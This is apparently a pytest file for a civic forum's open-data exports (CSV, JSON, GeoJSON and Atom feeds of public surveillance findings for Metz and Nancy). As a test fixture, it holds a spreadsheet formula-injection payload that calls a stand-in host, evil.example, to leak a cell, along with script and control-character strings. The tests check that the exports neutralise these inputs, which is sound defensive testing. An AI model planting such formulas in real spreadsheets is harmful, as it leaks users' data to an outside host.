"""Open data of the watch board: CSV, JSON and GeoJSON exports and Atom feeds, public only."""
from __future__ import annotations

import csv
import io
import json
from typing import Any
from urllib.parse import quote

import aiohttp
import feedparser
import pytest

from forum.models import boards, findings
from forum.views.exports import COLUMNS, FEED_SIZE

pytestmark = pytest.mark.both_stores

V1 = "/api/v1"
ENGLISH = {"Accept-Language": "en"}
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


async def attached_file(forum, client, board, author, name: str) -> tuple[int, int]:
    """A text file attached to a new thread's first post, sent as a member would."""
    token = await forum.token(author)
    form = aiohttp.FormData(quote_fields=False)
    form.add_field("file", "Conseil municipal, séance du 12 mars.\n".encode(), filename=name,
                   content_type="text/plain")
    headers = {"Authorization": f"Bearer {token}"}
    sent = await client.post(f"{V1}/uploads", data=form, headers=headers)
    assert sent.status == 201, await sent.text()
    upload = await sent.json()
    made = await client.post(f"{V1}/boards/{board.slug}/threads", headers=headers, json={
        "title": "Compte rendu", "body": "Le voici.", "attachments": [upload["id"]]})
    assert made.status == 201, await made.text()
    return upload["id"], (await made.json())["post"]["id"]


@pytest.fixture
async def world(forum, client) -> dict[str, Any]:
    """Metz with three public findings (one with sources of every kind, one tricky to a
    spreadsheet), one pending and one deleted; Nancy with one; a national board with none."""
    metz, nancy = await forum.board("Metz"), await forum.board("Nancy")
    async with forum.db.transaction() as tx:
        await boards.create(tx, "Général", "general", is_city=False)
    lea = await forum.user("lea")
    _thread, post_id = await forum.thread(metz, lea, "Caméras du centre")
    upload_id, _post = await attached_file(forum, client, metz, lea, "compte rendu été.txt")
    cameras = await forum.finding(
        metz, lea, quantity="148", observed="2020-03", place="@SUM(1)", note=FORMULA,
        latitude="49.1193", longitude="-1.55", posts=[post_id], files=[upload_id],
        links=[("https://example.org/deliberation.pdf", "Délibération")])
    budget = await forum.finding(metz, lea, kind="video-analysis", quantity="1,2",
                                 unit="percent", observed="2021", place="+33 3 87 00 00 00",
                                 note="-moins")
    facial = await forum.finding(metz, lea, kind="facial-recognition", quantity="",
                                 status="forbidden", observed="2022-12", note="\tonglet",
                                 latitude="0.00001", longitude="6.17")
    pending = await forum.finding(metz, lea, review="pending", quantity="98765")
    deleted = await forum.finding(metz, lea, quantity="87654")
    async with forum.db.transaction() as tx:
        await findings.delete(tx, await findings.get(tx, deleted), lea, "")
    nancy_drones = await forum.finding(nancy, lea, kind="drones", quantity="2")
    return {"metz": metz, "nancy": nancy, "lea": lea, "post": post_id, "upload": upload_id,
            "cameras": cameras, "budget": budget, "facial": facial, "pending": pending,
            "deleted": deleted, "nancy_drones": nancy_drones}


async def fetch(client, path: str, expect: int = 200, **kwargs: Any):
    response = await client.get(path, **kwargs)
    body = await response.read()
    assert response.status == expect, body[:500]
    return response, body


def read_csv(body: bytes) -> list[dict[str, str]]:
    assert not body.startswith(b"\xef\xbb\xbf"), "no byte-order mark"
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"), newline="")))


def check_geojson(document: dict[str, Any]) -> list[dict[str, Any]]:
    """RFC 7946 as far as we use it: a FeatureCollection of Points at [longitude, latitude]."""
    assert document["type"] == "FeatureCollection"
    assert isinstance(document["features"], list)
    for feature in document["features"]:
        assert feature["type"] == "Feature" and isinstance(feature["properties"], dict)
        assert feature["geometry"]["type"] == "Point"
        lon, lat = feature["geometry"]["coordinates"]
        assert all(isinstance(x, int | float) and not isinstance(x, bool) for x in (lon, lat))
        assert -180 <= lon <= 180 and -90 <= lat <= 90
    return document["features"]


async def test_city_csv_reads_back_with_the_public_findings_only(forum, client, world):
    base = forum.config.base_url
    response, body = await fetch(client, "/b/metz/watch/findings.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="vigie-metz-findings.csv"')
    assert response.headers["Link"] == f'<{forum.config.data_licence_url}>; rel="license"'
    rows = read_csv(body)
    assert tuple(rows[0]) == COLUMNS
    by_id = {int(row["id"]): row for row in rows}
    assert set(by_id) == {world["cameras"], world["budget"], world["facial"]}
    cameras = by_id[world["cameras"]]
    assert cameras["url"] == f"{base}/f/{world['cameras']}"
    assert (cameras["city"], cameras["city_slug"], cameras["kind"]) == ("Metz", "metz", "cameras")
    assert cameras["kind_label"] == "Video-surveillance cameras"
    assert (cameras["quantity"], cameras["unit"], cameras["observed"]) == ("148", "count",
                                                                          "2020-03")
    assert cameras["sources"].split(" | ") == [
        f"{base}/p/{world['post']}",
        f"{base}/files/{world['upload']}/{quote('compte rendu été.txt', safe='')}",
        "https://example.org/deliberation.pdf"]
    assert cameras["proposed_by"] == "lea" and cameras["published_at"]
    assert by_id[world["budget"]]["quantity"] == "1.2"
    assert by_id[world["facial"]]["quantity"] == "" and by_id[world["facial"]]["unit"] == ""


async def test_csv_cells_cannot_run_as_formulas_but_numbers_stay_numbers(client, world):
    _response, body = await fetch(client, "/b/metz/watch/findings.csv")
    by_id = {int(row["id"]): row for row in read_csv(body)}
    cameras, budget = by_id[world["cameras"]], by_id[world["budget"]]
    assert cameras["note"] == "'" + FORMULA
    assert cameras["place"] == "'@SUM(1)"
    assert budget["place"] == "'+33 3 87 00 00 00" and budget["note"] == "'-moins"
    # The form's note had its tab folded by the model; a tab that got through would be escaped.
    assert not by_id[world["facial"]]["note"].startswith("\t")
    assert float(cameras["longitude"]) == -1.55 and cameras["longitude"] == "-1.55"
    assert float(cameras["latitude"]) == 49.1193
    assert by_id[world["facial"]]["latitude"] == "0.00001"  # not 1e-05


def test_a_tab_or_carriage_return_at_the_start_is_escaped_too():
    from forum.views.exports import csv_cell

    assert csv_cell("note", "\tx") == "'\tx" and csv_cell("place", "\rx") == "'\rx"
    assert csv_cell("longitude", -1.55) == "-1.55" and csv_cell("quantity", 148.0) == "148"


async def test_national_exports_every_city(client, world):
    _response, body = await fetch(client, "/watch/findings.csv")
    rows = read_csv(body)
    assert {int(row["id"]) for row in rows} == {
        world["cameras"], world["budget"], world["facial"], world["nancy_drones"]}
    response, _body = await fetch(client, "/watch/findings.csv")
    assert response.headers["Content-Disposition"] == 'attachment; filename="vigie-findings.csv"'


async def test_json_export_carries_the_licence_and_the_sources(forum, client, world):
    base = forum.config.base_url
    response, body = await fetch(client, "/b/metz/watch/findings.json")
    assert response.headers["Content-Type"] == "application/json"
    assert response.headers["Link"] == f'<{forum.config.data_licence_url}>; rel="license"'
    document = json.loads(body)
    assert document["licence"] == {"name": "ODbL 1.0",
                                   "url": "https://opendatacommons.org/licenses/odbl/1-0/"}
    assert document["source"] == f"{base}/b/metz/watch"
    assert "generated_at" not in document
    by_id = {item["id"]: item for item in document["findings"]}
    assert set(by_id) == {world["cameras"], world["budget"], world["facial"]}
    cameras = by_id[world["cameras"]]
    assert cameras["quantity"] == 148 and by_id[world["budget"]]["quantity"] == 1.2
    assert cameras["longitude"] == -1.55 and cameras["note"] == FORMULA  # JSON needs no escape
    assert cameras["sources"] == [
        {"kind": "post", "url": f"{base}/p/{world['post']}", "label": "Caméras du centre"},
        {"kind": "file", "label": "compte rendu été.txt", "url":
         f"{base}/files/{world['upload']}/{quote('compte rendu été.txt', safe='')}"},
        {"kind": "link", "url": "https://example.org/deliberation.pdf",
         "label": "Délibération"}]
    national = json.loads((await fetch(client, "/watch/findings.json"))[1])
    assert national["source"] == f"{base}/watch"
    assert len(national["findings"]) == 4


async def test_geojson_is_a_feature_collection_of_placed_findings(forum, client, world):
    response, body = await fetch(client, "/b/metz/watch/findings.geojson")
    assert response.headers["Content-Type"] == "application/geo+json"
    document = json.loads(body)
    features = check_geojson(document)
    assert document["licence"]["url"] == forum.config.data_licence_url
    by_id = {feature["id"]: feature for feature in features}
    assert set(by_id) == {world["cameras"], world["facial"]}  # the budget has no place
    assert by_id[world["cameras"]]["geometry"]["coordinates"] == [-1.55, 49.1193]
    assert by_id[world["cameras"]]["properties"]["kind"] == "cameras"
    assert check_geojson(json.loads((await fetch(client, "/watch/findings.geojson"))[1]))


async def test_exports_are_the_same_for_moderators_and_authors(forum, client, world):
    anonymous = {fmt: (await fetch(client, f"/b/metz/watch/findings.{fmt}"))[1]
                 for fmt in ("csv", "json", "geojson")}
    for name, role in (("lea", "member"), ("modo", "moderator")):
        user = world["lea"] if name == "lea" else await forum.user(name, role=role)
        headers = {"Authorization": f"Bearer {await forum.token(user)}"}
        for fmt, body in anonymous.items():
            assert (await fetch(client, f"/b/metz/watch/findings.{fmt}", headers=headers))[1] \
                == body
    # Read as a program would (not searched as bytes: a figure's digits can stand in a
    # timestamp): the same public findings in every format, never the pending or deleted one.
    rows = {int(row["id"]): row["quantity"] for row in read_csv(anonymous["csv"])}
    items = {item["id"]: item["quantity"] for item in json.loads(anonymous["json"])["findings"]}
    located = {feature["id"] for feature in json.loads(anonymous["geojson"])["features"]}
    public = {world["cameras"], world["budget"], world["facial"]}
    assert set(rows) == set(items) == public and located == {world["cameras"], world["facial"]}
    assert {rows[world["cameras"]], items[world["cameras"]]} == {"148", 148}
    for hidden in ("98765", "87654"):  # the pending and the deleted figures
        assert hidden not in rows.values() and float(hidden) not in items.values()


async def test_exports_take_the_filters_of_the_api(client, world):
    async def ids(query: str) -> set[int]:
        body = (await fetch(client, f"/b/metz/watch/findings.json?{query}"))[1]
        return {item["id"] for item in json.loads(body)["findings"]}

    assert await ids("kind=cameras") == {world["cameras"]}
    assert await ids("status=forbidden") == {world["facial"]}
    assert await ids("since=2021") == {world["budget"], world["facial"]}
    assert await ids("until=2021-06") == {world["cameras"], world["budget"]}
    assert await ids("since=03/2020&until=2020") == {world["cameras"]}
    assert len(await ids("kind=&status=")) == 3  # a form's "any": no filter


@pytest.mark.parametrize("query", ["kind=teleportation", "status=rumoured", "since=hier",
                                   "until=2019-13"])
async def test_a_bad_filter_is_a_400_page(client, world, query):
    response, _body = await fetch(client, f"/b/metz/watch/findings.csv?{query}", expect=400)
    assert response.content_type == "text/html"


@pytest.mark.parametrize("path", ["/b/nowhere/watch/findings.csv", "/b/general/watch/findings.json",
                                  "/b/nowhere/watch/feed.atom", "/b/general/watch/feed.atom"])
async def test_unknown_boards_and_boards_that_are_no_city_have_no_export(client, world, path):
    await fetch(client, path, expect=404)


async def test_a_former_address_redirects_with_its_format_and_filters(forum, client, world):
    async with forum.db.transaction() as tx:
        await boards.update(tx, world["metz"], "Metz", "metz-moselle")
    response = await client.get("/b/metz/watch/findings.geojson?kind=cameras",
                                allow_redirects=False)
    assert response.status == 301
    assert response.headers["Location"] == "/b/metz-moselle/watch/findings.geojson?kind=cameras"


async def test_cached_exports_keep_their_headers_and_follow_new_findings(forum, client, world):
    first, body = await fetch(client, "/b/metz/watch/findings.csv")
    again, cached = await fetch(client, "/b/metz/watch/findings.csv")
    assert cached == body and again.headers["ETag"] == first.headers["ETag"]
    for name in ("Content-Type", "Content-Disposition", "Link", "Access-Control-Allow-Origin"):
        assert again.headers[name] == first.headers[name]
    assert again.headers["Access-Control-Allow-Origin"] == "*"  # open data, read from anywhere
    moderator = await forum.user("modo", role="moderator")
    async with forum.db.transaction() as tx:
        await findings.approve(tx, await findings.get(tx, world["pending"]), moderator,
                               confirmed=True)  # the checks are test_finding_scope.py's
    rows = read_csv((await fetch(client, "/b/metz/watch/findings.csv"))[1])
    assert world["pending"] in {int(row["id"]) for row in rows}
    rows = read_csv((await fetch(client, "/watch/findings.csv"))[1])
    assert world["pending"] in {int(row["id"]) for row in rows}


async def test_a_source_post_no_longer_public_leaves_the_cached_export(forum, client, world):
    await fetch(client, "/b/metz/watch/findings.json")
    async with forum.db.transaction() as tx:
        await tx.execute("update posts set hidden = 1 where id = ?", (world["post"],))
        tx.changed("thread", (await tx.value("select thread_id from posts where id = ?",
                                             (world["post"],))))
    document = json.loads((await fetch(client, "/b/metz/watch/findings.json"))[1])
    cameras = next(f for f in document["findings"] if f["id"] == world["cameras"])
    assert cameras["sources"][0] == {"kind": "post", "url": None, "label": ""}


# Atom feeds ------------------------------------------------------------------------------------

async def parse_feed(client, path: str, headers: dict | None = None):
    response, body = await fetch(client, path, headers=headers or {})
    assert response.headers["Content-Type"] == "application/atom+xml; charset=utf-8"
    feed = feedparser.parse(body, response_headers={
        "content-type": response.headers["Content-Type"],
        "content-location": f"{client.make_url(path)}"})
    assert feed.bozo == 0, (path, feed.get("bozo_exception"))
    return feed


async def set_published(forum, finding_id: int, at: str) -> None:
    async with forum.db.transaction() as tx:
        await tx.execute("update findings set published_at = ? where id = ?", (at, finding_id))
        tx.changed("watch", None)


async def test_feeds_list_public_findings_newest_first(forum, client, world):
    base = forum.config.base_url
    # The oldest finding was published last (approved late): it comes first.
    await set_published(forum, world["cameras"], "2030-01-01T00:00:00.000Z")
    for path in ("/watch/feed.atom", "/b/metz/watch/feed.atom"):
        feed = await parse_feed(client, path, ENGLISH)
        ids = [entry.id for entry in feed.entries]
        assert ids[0] == f"{base}/f/{world['cameras']}"
        assert f"{base}/f/{world['pending']}" not in ids
        assert f"{base}/f/{world['deleted']}" not in ids
        assert feed.feed.updated == "2030-01-01T00:00:00.000Z" == feed.entries[0].updated
        assert feed.feed.links[0].href == base + path and feed.feed.id.startswith("tag:")
        newest = feed.entries[0]
        assert newest.title == "Metz — 148 Video-surveillance cameras (March 2020)"
        assert newest.link == f"{base}/f/{world['cameras']}" and newest.author == "lea"
        assert "@SUM(1)" in newest.summary and "https://example.org/deliberation.pdf" in \
            newest.summary
    city_ids = [e.id for e in (await parse_feed(client, "/b/metz/watch/feed.atom")).entries]
    assert f"{base}/f/{world['nancy_drones']}" not in city_ids
    national = await parse_feed(client, "/watch/feed.atom", ENGLISH)
    assert f"{base}/f/{world['nancy_drones']}" in [entry.id for entry in national.entries]
    titles = {entry.id: entry.title for entry in national.entries}
    assert titles[f"{base}/f/{world['facial']}"] == (
        "Metz — Facial recognition, forbidden (December 2022)")
    assert titles[f"{base}/f/{world['budget']}"] == (
        "Metz — Automated video analysis: 1.2\u00a0% (2021)")


async def test_feed_is_the_same_for_the_author_of_a_pending_finding(forum, client, world):
    headers = {"Authorization": f"Bearer {await forum.token(world['lea'])}", **ENGLISH}
    feed = await parse_feed(client, "/b/metz/watch/feed.atom", headers)
    assert f"/f/{world['pending']}" not in " ".join(entry.id for entry in feed.entries)


async def test_an_empty_city_feed_is_valid_and_holds_at_most_feed_size(forum, client, world):
    empty = await forum.board("Toul")
    feed = await parse_feed(client, f"/b/{empty.slug}/watch/feed.atom")
    assert feed.entries == [] and feed.feed.updated
    lea = world["lea"]
    for n in range(FEED_SIZE + 1 - 3):
        await forum.finding(world["metz"], lea, quantity=str(n + 1))
    feed = await parse_feed(client, "/b/metz/watch/feed.atom")
    assert len(feed.entries) == FEED_SIZE


async def test_text_that_xml_refuses_does_not_break_the_feed(forum, client, world):
    async with forum.db.transaction() as tx:
        await tx.execute("update findings set note = ?, place = ? where id = ?",
                         ("a\x0bb <script>&amp;", "]]> \x01", world["cameras"]))
        tx.changed("watch", None)
    feed = await parse_feed(client, "/watch/feed.atom")
    entry = next(e for e in feed.entries if e.id.endswith(f"/f/{world['cameras']}"))
    assert "a\ufffdb &lt;script&gt;&amp;amp;" in entry.summary
